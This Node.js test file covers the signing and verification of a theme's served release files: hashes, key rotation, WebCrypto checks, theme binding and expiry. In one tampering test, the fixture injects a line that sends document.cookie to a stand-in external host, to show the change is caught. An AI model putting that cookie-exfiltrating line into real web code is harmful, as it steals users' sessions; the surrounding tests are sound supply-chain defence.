import { test } from 'node:test';
import assert from 'node:assert/strict';
import { createPublicKey, generateKeyPairSync, verify, webcrypto } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import {
  checkSignedDist,
  keyIdOf,
  publicKeyText,
  readSignedList,
  releaseFields,
  RELEASE_VALID_DAYS,
  servedFiles,
  sha384Of,
  signatureHolds,
  signDist,
  signedDocumentOf,
  signedFileHashes,
  signedFilesOf,
  signingKeyOf,
  SIGNED_FILES_NAME,
} from './release-signing.mjs';

/** A release of the theme Acme, signed at a fixed moment. */
const RELEASE = releaseFields({ theme: 'Acme', now: Date.parse('2026-03-01T00:00:00Z') });

function dist() {
  const dir = mkdtempSync(path.join(tmpdir(), 'release-signing-'));
  const write = (rel, content) => {
    mkdirSync(path.dirname(path.join(dir, rel)), { recursive: true });
    writeFileSync(path.join(dir, rel), content);
  };
  write('mf-manifest.json', '{"name":"remote_acme"}');
  write('remoteEntry.js', 'window.remote_acme = {};');
  write('static/js/async/pages-login.0123abcd.js', 'console.log("login");');
  write('static/css/async/pages-login.0123abcd.css', '.a{color:red}');
  write('remoteEntry.js.br', 'compressed');
  write('remoteEntry.js.gz', 'compressed');
  return { dir, write };
}

const ed25519 = () => generateKeyPairSync('ed25519').privateKey;
const p256 = () => generateKeyPairSync('ec', { namedCurve: 'P-256' }).privateKey;

test('lists every served file with its SHA-384, but not the compressed copies nor the list itself', () => {
  const { dir } = dist();
  signDist(dir, ed25519(), RELEASE);
  assert.deepEqual(servedFiles(dir), [
    'mf-manifest.json',
    'remoteEntry.js',
    'static/css/async/pages-login.0123abcd.css',
    'static/js/async/pages-login.0123abcd.js',
  ]);
  const document = JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8'));
  const { format, files, theme, sequence, expires } = JSON.parse(document.signed);
  assert.equal(format, 'member-signed-files/2');
  assert.deepEqual(
    { theme, sequence, expires },
    { theme: 'Acme', sequence: Date.parse('2026-03-01T00:00:00Z'), expires: '2026-05-30T00:00:00.000Z' },
  );
  assert.deepEqual(Object.keys(files), servedFiles(dir));
  assert.equal(files['remoteEntry.js'], sha384Of(Buffer.from('window.remote_acme = {};')));
  assert.match(files['remoteEntry.js'], /^sha384-[A-Za-z0-9+/]{64}$/);
});

for (const [name, make, algorithm] of [
  ['Ed25519', ed25519, 'Ed25519'],
  ['ECDSA P-256', p256, 'ECDSA-P256'],
]) {
  test(`${name}: the signature holds for its own key and for no other`, () => {
    const { dir } = dist();
    const key = make();
    signDist(dir, key, RELEASE);
    const document = JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8'));
    assert.equal(document.algorithm, algorithm);
    assert.equal(document.key, keyIdOf(publicKeyText(key)));
    assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), []);
    assert.deepEqual(checkSignedDist(dir, [publicKeyText(make())]), ['the signature is not by any of the keys given']);
    // Rotation: any key of the list will do.
    assert.deepEqual(checkSignedDist(dir, [publicKeyText(make()), publicKeyText(key)]), []);
  });

  test(`${name}: WebCrypto verifies what node:crypto signed (the host's side)`, async () => {
    const { dir } = dist();
    const key = make();
    const document = signedFilesOf(dir, key, RELEASE);
    const spki = Buffer.from(publicKeyText(key), 'base64');
    const params = algorithm === 'Ed25519' ? { name: 'Ed25519' } : { name: 'ECDSA', namedCurve: 'P-256' };
    const publicKey = await webcrypto.subtle.importKey('spki', spki, params, false, ['verify']);
    const verifyParams = algorithm === 'Ed25519' ? { name: 'Ed25519' } : { name: 'ECDSA', hash: 'SHA-256' };
    const ok = await webcrypto.subtle.verify(
      verifyParams,
      publicKey,
      Buffer.from(document.signature, 'base64'),
      new TextEncoder().encode(document.signed),
    );
    assert.equal(ok, true);
  });
}

test('a changed, missing or unlisted file is named', () => {
  const { dir, write } = dist();
  const key = ed25519();
  signDist(dir, key, RELEASE);
  write('remoteEntry.js', 'window.remote_acme = {}; fetch("https://elsewhere.example/?" + document.cookie);');
  write('static/js/extra.js', 'evil()');
  assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), [
    'remoteEntry.js differs from the signed list',
    'static/js/extra.js is served but not listed',
  ]);
});

test('the signed text is what was signed: editing the list breaks the signature', () => {
  const { dir } = dist();
  const key = ed25519();
  signDist(dir, key, RELEASE);
  const file = path.join(dir, SIGNED_FILES_NAME);
  const document = JSON.parse(readFileSync(file, 'utf8'));
  document.signed = document.signed.replace(/"remoteEntry\.js":"sha384-[^"]+"/, `"remoteEntry.js":"${sha384Of(Buffer.from('other'))}"`);
  writeFileSync(file, JSON.stringify(document));
  assert.ok(!verify(null, Buffer.from(document.signed), createPublicKey(key), Buffer.from(document.signature, 'base64')));
  assert.ok(checkSignedDist(dir, [publicKeyText(key)]).includes('the signature is not by any of the keys given'));
});

test('refuses a key of another kind', () => {
  const { dir } = dist();
  const rsa = generateKeyPairSync('rsa', { modulusLength: 1024 }).privateKey;
  assert.throws(() => signDist(dir, rsa, RELEASE), /Ed25519 or ECDSA P-256, not rsa/);
  const p384 = generateKeyPairSync('ec', { namedCurve: 'P-384' }).privateKey;
  assert.throws(() => publicKeyText(p384), /not ec secp384r1/);
});

test('a public key reads as the base64 of its SPKI, which names its algorithm', () => {
  assert.match(publicKeyText(ed25519()), /^MCowBQYDK2VwAyEA[A-Za-z0-9+/]{43}=$/);
  assert.match(publicKeyText(p256()), /^MFkwEwYHKoZIzj0CAQYIKoZIzj0DAQcDQgAE/);
});

test("files held in memory (a theme's dev server) sign to the same document as a folder holding them", () => {
  const { dir } = dist();
  const key = ed25519();
  const entries = servedFiles(dir)
    .reverse()
    .map((file) => [file, readFileSync(path.join(dir, file))]);
  // What a folder's list leaves out, the in-memory list leaves out too: compressed copies and the list itself.
  entries.push(['remoteEntry.js.br', 'compressed'], [SIGNED_FILES_NAME, '{}'], ['static/js/x.js.gz', 'compressed']);
  assert.deepEqual(signedDocumentOf(entries, key, RELEASE), signedFilesOf(dir, key, RELEASE));
  // A string's bytes are its UTF-8.
  const [first] = entries;
  assert.equal(
    JSON.parse(signedDocumentOf([[first[0], first[1].toString('utf8')]], key, RELEASE).signed).files[first[0]],
    sha384Of(first[1]),
  );
});

test('a signature holds for a signed list by one of the keys, and for nothing else that could be answered in its place', () => {
  const { dir } = dist();
  const key = ed25519();
  const document = signedFilesOf(dir, key, RELEASE);
  assert.equal(signatureHolds(document, [publicKeyText(p256()), publicKeyText(key)]), true);
  assert.equal(signatureHolds(document, [publicKeyText(ed25519())]), false);
  assert.equal(signatureHolds({ ...document, signed: document.signed.replace('remoteEntry', 'remoteEntrx') }, [publicKeyText(key)]), false);
  for (const other of [null, '<!doctype html>', {}]) assert.equal(signatureHolds(other, [publicKeyText(key)]), false);
});

test("a reader of a release goes by the list's files once its signature holds, and by nothing otherwise", () => {
  const { dir } = dist();
  const key = ed25519();
  signDist(dir, key, RELEASE);
  const document = JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8'));
  const hashes = signedFileHashes(document, [publicKeyText(key)], { theme: 'Acme', now: Date.parse('2026-03-02T00:00:00Z') });
  assert.equal(hashes.get('remoteEntry.js'), sha384Of(Buffer.from('window.remote_acme = {};')));
  assert.deepEqual([...hashes.keys()], servedFiles(dir));
  assert.throws(() => signedFileHashes(document, [publicKeyText(ed25519())]), /not by any of the keys/);
  assert.throws(
    () => signedFileHashes({ ...document, signed: document.signed.replace('remoteEntry.js', 'remoteEntry.jx') }, [publicKeyText(key)]),
    /not by any of the keys/,
  );
  // As the browser holds a release: of the theme it is drawn for, and not expired.
  assert.throws(
    () => signedFileHashes(document, [publicKeyText(key)], { theme: 'PRE8', now: Date.parse('2026-03-02T00:00:00Z') }),
    /a release of Acme, not of PRE8/,
  );
  assert.throws(() => signedFileHashes(document, [publicKeyText(key)], { theme: 'Acme', now: Date.parse(RELEASE.expires) }), /expired/);
});

test('a release names its theme, its sequence (the signing time unless given) and its expiry (90 days on unless given)', () => {
  const now = Date.parse('2026-03-01T12:00:00Z');
  assert.equal(RELEASE_VALID_DAYS, 90);
  assert.deepEqual(releaseFields({ theme: 'PRE8', now }), { theme: 'PRE8', sequence: now, expires: '2026-05-30T12:00:00.000Z' });
  assert.deepEqual(releaseFields({ theme: 'PRE8', now, sequence: 7, validDays: 1 }), {
    theme: 'PRE8',
    sequence: 7,
    expires: '2026-03-02T12:00:00.000Z',
  });
  assert.throws(() => releaseFields({ now }), /names the theme it is for/);
  assert.throws(() => releaseFields({ theme: 'PRE8', sequence: -1 }), /positive whole number/);
  assert.throws(() => releaseFields({ theme: 'PRE8', expires: 'soon' }), /expires at a time/);
});

test('a signed list reads back as signed, and one of the earlier format (no theme, sequence or expiry) is named as such', () => {
  const { dir } = dist();
  const key = ed25519();
  const document = signedFilesOf(dir, key, RELEASE);
  assert.deepEqual({ ...readSignedList(document), files: undefined }, { format: 'member-signed-files/2', ...RELEASE, files: undefined });
  const older = { ...document, signed: JSON.stringify({ format: 'member-signed-files/1', files: {} }) };
  assert.throws(
    () => readSignedList(older),
    /format member-signed-files\/1, not member-signed-files\/2: sign it again \(npm run release-key -- renew/,
  );
  assert.deepEqual(checkSignedDist(dir, [publicKeyText(key)]), [
    `${SIGNED_FILES_NAME}: ENOENT: no such file or directory, open '${path.join(dir, SIGNED_FILES_NAME)}'`,
  ]);
  signDist(dir, key, RELEASE);
  assert.equal(
    signingKeyOf(JSON.parse(readFileSync(path.join(dir, SIGNED_FILES_NAME), 'utf8')), [publicKeyText(p256()), publicKeyText(key)]),
    publicKeyText(key),
  );
  assert.equal(signingKeyOf(document, [publicKeyText(p256())]), null);
});
